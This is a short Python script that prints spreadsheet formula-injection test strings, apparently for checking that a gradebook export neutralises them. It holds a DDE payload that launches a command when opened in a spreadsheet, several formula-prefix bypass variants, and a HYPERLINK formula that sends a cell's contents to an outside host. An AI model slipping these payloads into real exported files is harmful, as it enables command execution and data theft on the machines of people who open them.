"""Prints formulas, for a gradebook that is opened in a spreadsheet."""

import sys

print("TRIED formulas", file=sys.stderr)
print("=cmd|' /C calc'!A0", file=sys.stderr)
print('@SUM(1+1)\n+1+1\n-1+1\n\t=1+1\n"=1+1",=1+1', file=sys.stderr)
print("\uff1d1+1", file=sys.stderr)  # the equals sign in full width
sys.exit('=HYPERLINK("http://example.org/?"&A1,"100")')
